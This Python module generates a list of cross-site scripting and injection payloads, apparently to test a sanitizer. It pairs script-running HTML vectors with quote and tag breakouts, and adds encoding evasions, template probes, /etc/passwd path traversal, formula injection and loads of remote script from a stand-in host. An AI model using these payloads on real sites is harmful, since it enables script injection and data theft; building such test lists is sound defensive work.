"""What strangers write to make a page act: 200 and more, built from what browsers run and from ways to break out of where text stands."""

ACTS = (
    "<script>{a}</script>", "<script src=//x.example/a.js></script>", "<img src=x onerror={a}>", "<svg onload={a}>", "<svg><script>{a}</script></svg>",
    "<body onload={a}>", "<iframe srcdoc='<script>{a}</script>'></iframe>", "<iframe src=javascript:{a}></iframe>", "<a href=javascript:{a}>x</a>",
    "<math><mtext><img src=x onerror={a}></mtext></math>", "<details open ontoggle={a}>", "<video><source onerror={a}></video>", "<input autofocus onfocus={a}>",
    "<object data=javascript:{a}></object>", "<embed src=javascript:{a}>", "<link rel=stylesheet href=//x.example/a.css>", "<style>@import'//x.example/a'</style>",
    "<meta http-equiv=refresh content=0;url=javascript:{a}>", "<base href=//x.example/>", "<form action=//x.example/><button>x</button></form>",
    "<marquee onstart={a}>", "<template><img src=x onerror={a}></template>", "<svg><animate onbegin={a} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{a}><text>x</text></a></svg>", "<noscript><p title='</noscript><img src=x onerror={a}>'>", "<xmp><img src=x onerror={a}></xmp>",
)  # fmt: skip
BREAKS = ("", '">', "'>", "</title>", "</textarea>", "</q></a>", "-->", "]]>")
OTHERS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
    '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='", "{{7*7}}", "{% import os %}", "${alert(1)}", "<%= 1 %>", "\u202e<script>", "<\u200bscript>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "%3Cscript%3E", "\x00<script>alert(1)</script>", "<scr\x00ipt>alert(1)</scr\x00ipt>", "＜script＞alert(1)＜/script＞",
    "//x.example/track.gif", "http://x.example/track.gif", "file:///etc/passwd", "../../etc/passwd", '=HYPERLINK("http://x.example")', "@SUM(1)", "+1", "-1+2",
)  # fmt: skip


def payloads() -> list[str]:
    """All of them."""
    acts = [act.replace("{a}", "window.hit=1") for act in ACTS]
    return [*(brk + act for brk in BREAKS for act in acts), *OTHERS]
